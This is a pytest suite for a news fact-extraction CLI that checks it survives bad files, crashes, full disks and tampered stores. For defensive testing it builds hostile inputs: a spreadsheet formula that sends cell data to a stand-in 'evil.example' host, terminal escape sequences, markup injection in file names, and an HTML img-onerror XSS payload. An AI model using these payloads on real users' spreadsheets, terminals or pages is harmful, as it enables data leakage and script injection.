"""Bad input gets a clear message; the store never loses, duplicates or half-writes facts."""
import codecs
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
import traceback
import unicodedata
from contextlib import contextmanager
from pathlib import Path

from hypothesis import HealthCheck, given, settings, strategies as st
from typer.testing import CliRunner

from kastfacts.cli import app
from kastfacts.extraction import process_documents
from kastfacts.records import Document
from kastfacts.store import Store

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"
FR_TEXT = (SEEDS / "000_dff806b68d89388f.txt").read_text(encoding="utf-8")
ES_TEXT = (SEEDS / "002_3be740355aa4a783.txt").read_text(encoding="utf-8")
EN_TEXT = (SEEDS / "004_2776c4c1bfc5371a.txt").read_text(encoding="utf-8")


def kastfacts(*args, **kw):
    return subprocess.run([sys.executable, "-m", "kastfacts", *map(str, args)], capture_output=True, text=True,
                          cwd=kw.pop("cwd", None), **kw)


def good_and_bad_folder(folder: Path) -> set[str]:
    """Every bad case of a real folder next to good files in several encodings; returns the good ids."""
    folder.mkdir()
    (folder / "fr-utf8-bom.txt").write_bytes(codecs.BOM_UTF8 + FR_TEXT.encode("utf-8"))
    (folder / "es-cp1252.txt").write_bytes(ES_TEXT.encode("cp1252"))
    (folder / "en-utf16.md").write_bytes(EN_TEXT.encode("utf-16"))
    (folder / "es-cp1252.meta.json").write_text("{broken json", encoding="utf-8")
    (folder / "binary.txt").write_bytes(bytes(range(256)) * 4)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "blank.txt").write_text(" \n\t\n  ", encoding="utf-8")
    (folder / "huge.txt").write_text("mot " * 300_000, encoding="utf-8")
    (folder / "report.pdf").write_bytes(b"%PDF-1.7 not text")
    (folder / "fake.txt").write_bytes(b"%PDF-1.7 renamed pdf")
    os.symlink(folder / "gone.txt", folder / "vanished.txt")     # a file that disappears mid-run
    return {"fr-utf8-bom.txt", "es-cp1252.txt", "en-utf16.md"}


def facts_of(db: Path) -> list[dict]:
    with Store(db, create=False) as store:
        return [f.to_dict() for f in store.facts()]


def test_bad_folder_twice_and_concurrently_keeps_exactly_the_good_facts(tmp_path):
    good = good_and_bad_folder(tmp_path / "in")
    reference = tmp_path / "ref.db"
    first = kastfacts("extract", tmp_path / "in", "--db", reference, "--format", "jsonl", "--max-bytes", "1000000", "-j", "1")
    assert first.returncode == 3, first.stderr
    for bad in ("binary.txt", "empty.txt", "blank.txt", "huge.txt", "report.pdf", "fake.txt", "vanished.txt"):
        assert bad in first.stderr, bad
    assert "es-cp1252.meta.json" in first.stderr and "Traceback" not in first.stderr
    expected = facts_of(reference)
    assert {f["doc"] for f in expected} == good
    texts = {"fr-utf8-bom.txt": FR_TEXT, "es-cp1252.txt": ES_TEXT, "en-utf16.md": EN_TEXT}
    assert all(texts[f["doc"]][f["start"]:f["end"]] == f["text"] for f in expected)

    shared = tmp_path / "shared.db"
    runs = [subprocess.Popen([sys.executable, "-m", "kastfacts", "extract", str(tmp_path / "in"), "--db", str(shared),
                              "--format", "jsonl", "--max-bytes", "1000000", "-j", "1"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    for run in runs:
        _, stderr = run.communicate(timeout=300)
        assert run.returncode == 3, stderr
    again = kastfacts("extract", tmp_path / "in", "--db", shared, "--format", "jsonl", "--max-bytes", "1000000", "-j", "1")
    assert again.returncode == 3
    assert facts_of(shared) == expected
    documents = json.loads(kastfacts("documents", "--db", shared, "--format", "json").stdout)
    encodings = {d["doc"]: d["encoding"] for d in documents}
    assert encodings["fr-utf8-bom.txt"] == "utf-8-sig" and encodings["en-utf16.md"] == "utf-16-bom"
    assert encodings["es-cp1252.txt"] == "cp1252"


def test_a_run_that_loaded_the_models_ends_with_its_exit_code_its_whole_output_and_a_closed_store(tmp_path):
    """The process ends without freeing the models one by one (cli._exit_without_teardown): what
    it printed, its exit code and its store must be whole all the same, piped or not."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "fr.txt").write_text(FR_TEXT, encoding="utf-8")
    (folder / "empty.txt").write_bytes(b"")
    db = tmp_path / "k.db"
    done = kastfacts("extract", folder, "--db", db, "--format", "jsonl", "-j", "1")
    assert done.returncode == 3, done.stderr                # the empty file is skipped, and says so
    assert "empty.txt" in done.stderr and "Traceback" not in done.stderr
    printed = [json.loads(line) for line in done.stdout.splitlines()]
    stored = facts_of(db)
    key = lambda f: (f["doc"], f["start"], f["end"], f["kind"])     # noqa: E731
    assert printed and sorted(map(key, printed)) == sorted(map(key, stored))
    again = kastfacts("extract", folder / "fr.txt", "--db", tmp_path / "again.db", "--format", "jsonl", "-j", "1")
    assert again.returncode == 0, again.stderr
    assert len(again.stdout.splitlines()) == len(printed)


def test_a_killed_run_leaves_complete_documents_and_a_rerun_finishes(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(120):
        text = [FR_TEXT, ES_TEXT, EN_TEXT][i % 3]
        # a distinct line of punctuation makes each file's content distinct without adding facts
        (folder / f"{i:03d}.txt").write_text(f"{text}\n\n{'*' * (i + 1)}\n", encoding="utf-8")
    db = tmp_path / "k.db"
    proc = subprocess.Popen([sys.executable, "-m", "kastfacts", "extract", str(folder), "--db", str(db), "-q", "-j", "1"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 120
    while time.time() < deadline:
        if db.exists():
            with Store(db) as store:
                if store.count("documents") >= 32:
                    break
        time.sleep(0.2)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    with Store(db) as store:
        stored = [d.doc for d, _ in store.documents()]
        per_doc = {}
        for f in store.facts():
            per_doc[f.doc] = per_doc.get(f.doc, 0) + 1
    assert 0 < len(stored) < 120
    assert all(per_doc.get(d, 0) > 0 for d in stored)          # no document stored without its facts
    rerun = kastfacts("extract", folder, "--db", db, "-q", "-j", "1", "--format", "jsonl")
    assert rerun.returncode == 0
    with Store(db) as store:
        assert store.count("documents") == 120
        counts = {}
        for f in store.facts():
            counts[f.doc] = counts.get(f.doc, 0) + 1
    # documents of one language carry the same facts: nothing half-written, nothing duplicated
    for lang_group in range(3):
        assert len({counts[f"{i:03d}.txt"] for i in range(lang_group, 120, 3)}) == 1


unicode_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), min_size=0, max_size=400)
news_like = st.lists(st.sampled_from([
    "Kast a remporté 58,1 % des voix mardi dernier.", "El 14 de diciembre, Noboa obtuvo el 41,8 %.",
    "On December 16, he visited Buenos Aires.", "مرحبا بالعالم", "שלום עולם", "🎉🇨🇱 Chile!!", "\u202e\u2066x\u2069",
    "\x00\x07\x1b[31m", "a" * 3000, "\r\n", "\n\n\n", "José Jerí, le 5 janvier 2026, à Lima.", "  \t "]),
    min_size=1, max_size=6).map(" ".join)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.one_of(unicode_text, news_like), lang=st.sampled_from([None, "fr", "es", "en"]))
def test_any_text_extracts_without_error_and_offsets_hold(text, lang):
    doc = Document(doc="x.txt", path="x.txt", text=text, lang=lang, lang_source="option" if lang else None)
    (result,) = process_documents([doc])
    for fact in result.facts:
        assert text[fact.start:fact.end] == fact.text
        assert fact.kind in ("person", "place", "organization", "date", "percentage")
    for block in result.document.skipped_blocks:
        assert 0 <= block.start <= block.end <= len(text)


# -- issue 16: nothing lost, nothing injected ---------------------------------------------------
# Every hostile or broken input below is made by the test itself, at run time.
runner = CliRunner()
FR_VOTE = ("Le candidat José Antonio Kast a obtenu 58,1 % des voix au second tour de la présidentielle "
           "chilienne, dimanche 14 décembre 2025.\n")
ES_VOTE = ("El candidato José Antonio Kast obtuvo el 58,4 % de los votos en la segunda vuelta presidencial "
           "de Chile, el domingo 14 de diciembre de 2025.\n")


def cli(*args, input=None):
    """The command in this process; a traceback (an exception the CLI did not turn into a message) fails."""
    result = runner.invoke(app, [str(a) for a in args], input=input)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError("".join(traceback.format_exception(result.exception)))
    assert "Traceback" not in result.output
    return result


def jsonl(text):
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def vote_conflicts(db):
    found = json.loads(cli("conflicts", "--db", db, "--format", "json").stdout)
    return [sorted(v["value"] for v in c["values"]) for c in found if c["attribute"] == "vote_share"]


def two_outlets(tmp_path):
    """Two folders holding a file of the same name, with different figures."""
    for outlet, text in (("lemonde", FR_VOTE), ("elpais", ES_VOTE)):
        (tmp_path / outlet).mkdir()
        (tmp_path / outlet / "article1.txt").write_text(text, encoding="utf-8")
    return tmp_path / "lemonde", tmp_path / "elpais"


def test_same_file_name_in_two_folders_keeps_both_documents_and_says_so(tmp_path):
    lemonde, elpais = two_outlets(tmp_path)
    db = tmp_path / "k.db"
    first = cli("extract", lemonde, elpais, "--db", db, "-j", "1", "--format", "jsonl")
    assert first.exit_code == 0, first.output
    assert {f["doc"] for f in jsonl(first.stdout)} == {"article1.txt", "elpais/article1.txt"}
    assert "elpais/article1.txt" in " ".join(first.stderr.split())        # the clash is said, never silent
    assert vote_conflicts(db) == [[58.1, 58.4]]
    again = cli("extract", lemonde, elpais, "--db", db, "-j", "1", "--format", "jsonl")
    assert again.stdout == first.stdout                                 # same ids, nothing duplicated
    assert len(json.loads(cli("documents", "--db", db, "--format", "json").stdout)) == 2


def test_files_of_the_same_name_from_separate_runs_never_replace_each_other(tmp_path):
    lemonde, elpais = two_outlets(tmp_path)
    db = tmp_path / "k.db"
    for path in (lemonde / "article1.txt", elpais / "article1.txt", lemonde):    # a/*.txt, then b/*.txt, then a/ again
        assert cli("extract", path, "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    docs = json.loads(cli("documents", "--db", db, "--format", "json").stdout)
    assert sorted(d["doc"] for d in docs) == ["article1.txt", "elpais/article1.txt"]
    assert all(d["doc"].endswith("article1.txt") for d in docs)          # the gold scorer matches by file stem
    assert vote_conflicts(db) == [[58.1, 58.4]]
    shards = tmp_path / "shards"
    for path in (lemonde, elpais):
        assert cli("extract", path, "--out", shards, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    assert vote_conflicts(shards) == [[58.1, 58.4]]


def small_store(tmp_path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(ES_VOTE, encoding="utf-8")
    db = tmp_path / "k.db"
    assert cli("extract", folder, "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    return db


def test_report_never_overwrites_the_database_or_a_file_that_is_not_a_report(tmp_path):
    db = small_store(tmp_path)
    before = db.read_bytes()
    for target in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):
        refused = cli("report", "--db", db, "--out", target)
        assert refused.exit_code == 2 and "database" in refused.stderr
        assert cli("report", "--db", db, "--out", target, "--force").exit_code == 2     # never, even forced
    assert db.read_bytes() == before and facts_of(db)
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n", encoding="utf-8")
    refused = cli("report", "--db", db, "--out", notes)
    assert refused.exit_code == 2 and "--force" in refused.stderr and notes.read_text(encoding="utf-8") == "my notes\n"
    assert cli("report", "--db", db, "--out", notes, "--force").exit_code == 0
    assert notes.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    page = tmp_path / "r.html"
    assert cli("report", "--db", db, "--out", page).exit_code == 0
    assert cli("report", "--db", db, "--out", page).exit_code == 0      # a report of ours is replaced


def test_an_extreme_publication_date_is_that_file_s_problem_not_the_store_s(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for name, date in (("late", "9999-12-31"), ("early", "0001-01-01")):
        (folder / f"{name}.txt").write_text(FR_VOTE.replace("58,1", "58,2" if name == "late" else "58,1"), encoding="utf-8")
        (folder / f"{name}.meta.json").write_text(json.dumps({"published": date}), encoding="utf-8")
    db = tmp_path / "k.db"
    result = cli("extract", folder, "--db", db, "-j", "1", "--format", "jsonl")
    assert result.exit_code == 0, result.output
    assert "late.meta.json" in result.stderr and "early.meta.json" in result.stderr
    docs = json.loads(cli("documents", "--db", db, "--format", "json").stdout)
    assert len(docs) == 2 and not any(d.get("published") for d in docs)
    assert cli("extract", folder, "--db", db, "--published", "0001-01-01").exit_code == 2
    # a store written before dates were checked may hold one: later runs still work
    with sqlite3.connect(db) as con:
        con.execute("UPDATE documents SET published = '9999-12-31'")
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "c.txt").write_text(ES_VOTE, encoding="utf-8")
    assert cli("extract", tmp_path / "more", "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    assert cli("conflicts", "--db", db, "--format", "json").exit_code == 0


def test_a_run_stopped_during_the_corpus_pass_is_finished_by_the_next_command(tmp_path, monkeypatch):
    from kastfacts import timeline

    clean = tmp_path / "clean.db"
    assert cli("extract", SEEDS, "--db", clean, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    expected_conflicts = cli("conflicts", "--db", clean, "--format", "json").stdout
    expected_facts = cli("facts", "--db", clean, "--format", "jsonl").stdout
    assert json.loads(expected_conflicts) and all(f.get("entity") for f in jsonl(expected_facts)
                                                  if f["kind"] in ("person", "place", "organization"))

    def stopped(*args, **kw):           # as if killed (or the disk filled up) once every batch was written
        raise KeyboardInterrupt
    monkeypatch.setattr(timeline, "anchor_corpus", stopped)
    broken = tmp_path / "broken.db"
    assert cli("extract", SEEDS, "--db", broken, "-j", "1", "-q", "--format", "jsonl").exit_code == 130
    monkeypatch.undo()
    finished = cli("conflicts", "--db", broken, "--format", "json")
    assert finished.stdout == expected_conflicts and "resolved them now" in finished.stderr
    assert cli("facts", "--db", broken, "--format", "jsonl").stdout == expected_facts
    with Store(broken) as store:
        assert not store.pending()


def test_a_bad_file_name_or_bad_metadata_loses_only_itself(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(FR_VOTE, encoding="utf-8")
    with open(os.path.join(os.fsencode(folder), b"bad\xff.txt"), "wb") as f:      # not a UTF-8 file name
        f.write(ES_VOTE.encode("utf-8"))
    (folder / "titled.txt").write_text(FR_VOTE.replace("58,1", "57,9"), encoding="utf-8")
    (folder / "titled.meta.json").write_text(json.dumps({"title": {"x": 1}, "source": ["a", "b"], "desk": {"ok": 1}}),
                                             encoding="utf-8")
    db = tmp_path / "k.db"
    result = cli("extract", folder, "--db", db, "-j", "1", "--format", "jsonl")
    assert result.exit_code == 0, result.output
    docs = {d["doc"]: d for d in json.loads(cli("documents", "--db", db, "--format", "json").stdout)}
    assert set(docs) == {"good.txt", "bad\\xff.txt", "titled.txt"}
    assert docs["titled.txt"].get("title") is None and docs["titled.txt"]["meta"] == {"desk": {"ok": 1}}
    said = " ".join(result.stderr.split())
    assert "title: expected a string" in said and "not valid UTF-8" in said
    assert {f["doc"] for f in jsonl(result.stdout)} == set(docs)


def test_a_utf8_file_with_one_legacy_line_is_repaired_there_and_says_where(tmp_path):
    from kastfacts.documents import decode, read_documents

    utf8 = "José Antonio Kast a dit « oui » au débat.\n"
    legacy = "Le président élu a répondu : « c’est décidé ».\n"
    data = utf8.encode("utf-8") + legacy.encode("cp1252") + utf8.encode("utf-8")
    text, encoding = decode(data)
    assert text == utf8 + legacy + utf8 and encoding == "utf-8+cp1252"
    (tmp_path / "mixed.txt").write_bytes(data)
    items = list(read_documents([tmp_path]))
    warnings = [i for i in items if getattr(i, "severity", None) == "warning"]
    assert warnings and warnings[0].path.endswith("mixed.txt") and "line 2" in warnings[0].reason
    assert items[-1].text == text


def test_invisible_characters_and_decomposed_accents_do_not_break_facts():
    samples = {
        "Kast obtuvo el 5\u200b8,5 % de los votos en Chile.": ("percentage", 58.5),
        "El presidente electo José Antonio Ka\u200dst llegó a Quito el lunes.": ("person", "José Antonio Kast"),
        unicodedata.normalize("NFD", "El presidente electo José Antonio Kast llegó a Quito el lunes."):
            ("person", "José Antonio Kast"),
        "Le président élu José Antonio Kast a obtenu 58,\u00ad1 % des voix.": ("percentage", 58.1),
    }
    for text, (kind, value) in samples.items():
        doc = Document(doc="x.txt", path="x.txt", text=text)
        (result,) = process_documents([doc])
        for fact in result.facts:
            assert text[fact.start:fact.end] == fact.text and fact.text in fact.sentence
        assert value in [f.value for f in result.facts if f.kind == kind], (text, result.facts)


def hostile_folder(tmp_path) -> Path:
    """Names and text a spreadsheet or a terminal would obey, made here: formulas, markup, escapes."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "=1+1.txt").write_text('=HYPERLINK("http://evil.example/?leak="&A1,"x")\n' + ES_VOTE, encoding="utf-8")
    for inner in ("[link=file:", "["):       # ids "[link=file:/evil].txt" and "[/x].txt", read as markup by Rich
        (folder / inner).mkdir()
    (folder / "[link=file:" / "evil].txt").write_text(FR_VOTE, encoding="utf-8")
    (folder / "[" / "x].txt").write_text("Kast \x1b[2J\x1b]0;owned\x07 obtuvo el 58,9 % de los votos en Chile.\n",
                                        encoding="utf-8")
    return folder


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_unless_raw(tmp_path):
    import csv
    import io

    db = tmp_path / "k.db"
    assert cli("extract", hostile_folder(tmp_path), "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    for command in ("facts", "documents", "conflicts"):
        out = cli(command, "--db", db, "--format", "csv")
        assert out.exit_code == 0
        cells = [cell for row in csv.reader(io.StringIO(out.stdout)) for cell in row]
        assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), command
        assert not any("\x1b" in cell or "\x07" in cell for cell in cells)
    neutral = list(csv.DictReader(io.StringIO(cli("facts", "--db", db, "--format", "csv").stdout)))
    raw = list(csv.DictReader(io.StringIO(cli("facts", "--db", db, "--format", "csv", "--csv-raw").stdout)))
    assert "'=1+1.txt" in {r["doc"] for r in neutral} and "=1+1.txt" in {r["doc"] for r in raw}
    assert any(r["value"].startswith("-") is False and r["kind"] == "percentage" for r in neutral)


def test_tables_show_names_and_text_as_text_never_as_markup_or_terminal_commands(tmp_path, monkeypatch):
    from rich.console import Console

    import kastfacts.cli as kcli

    db = tmp_path / "k.db"
    assert cli("extract", hostile_folder(tmp_path), "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    monkeypatch.setattr(kcli, "_console", lambda: Console(force_terminal=True, width=200))     # as at a terminal
    for args in (("facts",), ("documents",), ("conflicts", "--explain", "1")):
        out = cli(*args, "--db", db, "--format", "table")
        assert out.exit_code in (0, 2), out.output
        assert "\x1b[2J" not in out.stdout and "\x1b]0;" not in out.stdout and "\x1b]8;" not in out.stdout
    listed = cli("facts", "--db", db, "--format", "table").stdout
    assert "[/x].txt" in listed and "[link=file:/evil].txt" in listed
    share = {"doc": "[/x].txt", "lang": "en", "kind": "percentage", "text": "58.1%", "start": 0, "end": 5,
             "sentence": "\x1b]0;owned\x07 58.1%", "value": 58.1, "decimals": 1, "unit": "percent",
             "subject": "[bold]Kast[/x]", "attribute": "vote_share"}
    piped = "\n".join(json.dumps(f) for f in (share, {**share, "doc": "[link=file:/evil]b", "value": 58.4, "text": "58.4%"}))
    card = cli("conflicts", "-", "--format", "table", input=piped)
    assert card.exit_code == 0 and "[bold]Kast[/x]" in card.stdout and "\x1b]0;" not in card.stdout


def test_a_tampered_store_or_shard_folder_cannot_put_script_in_the_report(tmp_path):
    from kastfacts.records import Fact
    from kastfacts.report import render_report

    hostile_kind = 'x"><img src=x onerror=alert(1)>'
    page = render_report([], [Fact("a.txt", "fr", hostile_kind, "Kast", 0, 4, "Kast", "Kast")], [])
    assert "<img" not in page                                       # every attribute escaped, kinds included
    db = small_store(tmp_path)
    with sqlite3.connect(db) as con:
        con.execute("UPDATE facts SET kind = ? WHERE kind = 'person'", (hostile_kind,))
    out = cli("report", "--db", db, "--out", tmp_path / "r.html")
    assert out.exit_code == 0 and "not facts of the contract" in " ".join(out.stderr.split())
    assert "<img" not in (tmp_path / "r.html").read_text(encoding="utf-8")
    assert all(f["kind"] != hostile_kind for f in jsonl(cli("facts", "--db", db, "--format", "jsonl").stdout))
    shards = tmp_path / "shards"
    assert cli("extract", SEEDS, "--out", shards, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    part = next((shards / "facts").glob("*.jsonl"))
    lines = part.read_text(encoding="utf-8").splitlines()
    part.write_text("\n".join([json.dumps({**json.loads(lines[0]), "kind": hostile_kind})] + lines[1:]) + "\n",
                    encoding="utf-8")
    out = cli("report", "--db", shards, "--out", tmp_path / "s.html")
    assert out.exit_code == 0 and "<img" not in (tmp_path / "s.html").read_text(encoding="utf-8")


def bounded(*args, timeout=180):
    """The command in a subprocess that cannot hang the suite or take the machine's memory
    (on a kastfacts that reads /dev/zero to the end, or waits on a named pipe)."""
    import resource

    def limits():
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
    try:
        return kastfacts(*args, timeout=timeout, preexec_fn=limits)
    except subprocess.TimeoutExpired:
        raise AssertionError(f"kastfacts {' '.join(map(str, args))} hung for {timeout} s") from None


def test_only_regular_files_are_read_and_links_are_followed_only_inside_the_folders(tmp_path):
    folder, elsewhere = tmp_path / "in", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    (folder / "good.txt").write_text(FR_VOTE, encoding="utf-8")
    (elsewhere / "private.txt").write_text(ES_VOTE, encoding="utf-8")
    (elsewhere / "sub").mkdir()
    os.symlink("/dev/zero", folder / "zero.txt")
    os.symlink(folder / "good.txt", folder / "alias.txt")               # inside the folder: followed
    os.symlink(elsewhere / "private.txt", folder / "private.txt")       # leaves the folder: reported
    os.symlink(elsewhere / "sub", folder / "linked-folder")             # a folder: reported
    os.mkfifo(folder / "pipe.txt")                                      # would block a reader forever
    (folder / "meta.txt").write_text(ES_VOTE.replace("58,4", "58,6"), encoding="utf-8")
    os.mkfifo(folder / "meta.meta.json")
    db = tmp_path / "k.db"
    result = bounded("extract", folder, "--db", db, "--format", "jsonl", "-j", "1")
    assert result.returncode == 3, result.stderr
    said = " ".join(result.stderr.split())
    for name in ("zero.txt", "private.txt", "linked-folder", "pipe.txt", "meta.meta.json", "good.txt"):
        assert name in said, name
    assert "Traceback" not in result.stderr
    # the link inside the folder is read (first in order), and its target, the same text, once only
    assert {f["doc"] for f in jsonl(result.stdout)} == {"alias.txt", "meta.txt"}
    direct = bounded("extract", folder / "zero.txt", "--db", db, "--format", "jsonl", "-j", "1")
    assert direct.returncode == 3 and "device" in direct.stderr


def test_worker_counts_and_cluster_addresses_are_checked_before_any_work(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(ES_VOTE, encoding="utf-8")
    db = tmp_path / "k.db"
    for option in (("--jobs", "-3"), ("--cluster", "local:0"), ("--cluster", "garbage"), ("--cluster", "local:x")):
        result = bounded("extract", folder, "--db", db, *option, timeout=120)
        assert result.returncode == 2 and "Traceback" not in result.stderr, (option, result.stderr)
        assert option[0] in result.stderr
    capped = bounded("extract", folder, "--db", db, "--jobs", "1000", "--format", "jsonl")
    assert capped.returncode == 0 and "capped to" in capped.stderr


# -- stores that cannot be used: a message and exit 5, never a traceback --------------------------
@contextmanager
def read_only(*paths):
    """Make `paths` read-only for this process: immutable when running as root (root ignores modes)."""
    import shutil

    as_root = os.geteuid() == 0
    if as_root and not shutil.which("chattr"):
        import pytest
        pytest.skip("running as root without chattr: cannot make a file read-only")
    done = []
    try:
        for path in paths:
            if as_root:
                if subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode != 0:
                    import pytest
                    pytest.skip("this file system has no immutable flag")
            else:
                os.chmod(path, 0o555 if Path(path).is_dir() else 0o444)
            done.append(path)
        yield
    finally:
        for path in done:
            if as_root:
                subprocess.run(["chattr", "-i", str(path)], capture_output=True)
            else:
                os.chmod(path, 0o755 if Path(path).is_dir() else 0o644)


def test_a_read_only_store_is_read_and_refused_for_writing_before_any_work(tmp_path, monkeypatch):
    from kastfacts import extraction

    folder = tmp_path / "media"
    folder.mkdir()
    db = folder / "k.db"
    assert cli("extract", SEEDS, "--db", db, "-j", "1", "-q", "--format", "jsonl").exit_code == 0
    expected = cli("facts", "--db", db, "--format", "jsonl").stdout
    calls = []
    monkeypatch.setattr(extraction, "process_documents", lambda docs: calls.append(docs) or [])
    for locked in ((folder, db), (db,)):            # read-only media, then an immutable file in a writable folder
        with read_only(*locked):
            facts = cli("facts", "--db", db, "--format", "jsonl")
            assert facts.exit_code == 0 and facts.stdout == expected and "read-only" in facts.stderr
            assert cli("conflicts", "--db", db, "--format", "json").exit_code == 0
            refused = cli("extract", SEEDS, "--db", db, "-q")
            assert refused.exit_code == 5 and "cannot be written" in refused.stderr and not calls
        assert cli("facts", "--db", db, "--format", "jsonl").stdout == expected


def test_a_full_disk_stops_with_exit_5_and_the_store_intact(tmp_path):
    import resource

    db = small_store(tmp_path)
    before = json.loads(cli("documents", "--db", db, "--format", "json").stdout)

    for limit in (20_000, 200_000):              # the store's own files, or a temporary file, cannot grow
        def full_disk():
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
        result = kastfacts("extract", SEEDS, "--db", db, "-j", "1", "--format", "jsonl", preexec_fn=full_disk, timeout=300)
        assert result.returncode == 5 and "Traceback" not in result.stderr, result.stderr
        with sqlite3.connect(db) as con:
            assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert json.loads(cli("documents", "--db", db, "--format", "json").stdout) == before


def test_damaged_foreign_empty_or_unnamable_stores_exit_5_untouched(tmp_path):
    db = small_store(tmp_path)
    damaged = tmp_path / "damaged.db"
    data = bytearray(db.read_bytes())
    for page in range(4096, len(data), 4096):       # garbage over every page header past the first
        data[page:page + 16] = b"\xde\xad" * 8
    damaged.write_bytes(bytes(data))
    unversioned = tmp_path / "unversioned.db"
    unversioned.write_bytes(db.read_bytes())
    with sqlite3.connect(unversioned) as con:
        con.execute("PRAGMA user_version = 0")
    empty = tmp_path / "empty.db"
    empty.write_bytes(b"")
    for store in (damaged, unversioned, empty):
        before = store.read_bytes()
        for command in (("facts",), ("conflicts",), ("documents",), ("report", "--out", tmp_path / "r.html")):
            result = cli(*command, "--db", store)
            assert result.exit_code == 5, (store.name, command, result.output)
        assert store.read_bytes() == before, store.name            # nothing written, not even a schema
    too_long = str(tmp_path / ("x" * 5000))
    assert cli("facts", "--db", too_long).exit_code == 5
    deep = tmp_path.joinpath(*(["d"] * 3000), "k.db")
    result = kastfacts("extract", SEEDS / "002_3be740355aa4a783.txt", env={**os.environ, "KASTFACTS_DB": str(deep)})
    assert result.returncode == 5 and "Traceback" not in result.stderr


def test_conflicts_from_stdin_name_the_line_that_is_not_a_fact_and_skip_impossible_shares():
    good = {"doc": "a.txt", "lang": "en", "kind": "percentage", "text": "58.1%", "start": 0, "end": 5,
            "sentence": "Kast won 58.1%.", "value": 58.1, "decimals": 1, "unit": "percent",
            "subject": "José Antonio Kast", "attribute": "vote_share"}
    bad_lines = ["42", "null", "[1, 2]", '"text"', json.dumps(good).replace("58.1,", "NaN,"),
                 json.dumps(good).replace("58.1,", "Infinity,"), json.dumps(good).replace("58.1,", "1e309,"),
                 json.dumps(good).replace('"start": 0', '"start": ' + "9" * 5000)]
    for field, value in (("doc", ["a"]), ("subject", {"x": 1}), ("context", 3), ("decimals", "1"), ("decimals", 10 ** 9),
                         ("low", "58"), ("high", True), ("start", "0"), ("start", -4), ("kind", "x\"><img>"), ("value", "58")):
        bad_lines.append(json.dumps({**good, field: value}))
    for bad in bad_lines:
        result = cli("conflicts", "-", "--format", "json", input=json.dumps(good) + "\n" + bad + "\n")
        assert result.exit_code == 2 and "line 2" in result.stderr, (bad[:80], result.output)
    impossible = [{**good, "doc": "b.txt", "value": 158.1, "text": "158.1%"}, {**good, "doc": "c.txt", "value": -3.0}]
    result = cli("conflicts", "-", "--format", "json", input="\n".join(json.dumps(f) for f in [good] + impossible))
    assert result.exit_code == 0 and json.loads(result.stdout) == []
    assert "2 facts are impossible shares" in " ".join(result.stderr.split())
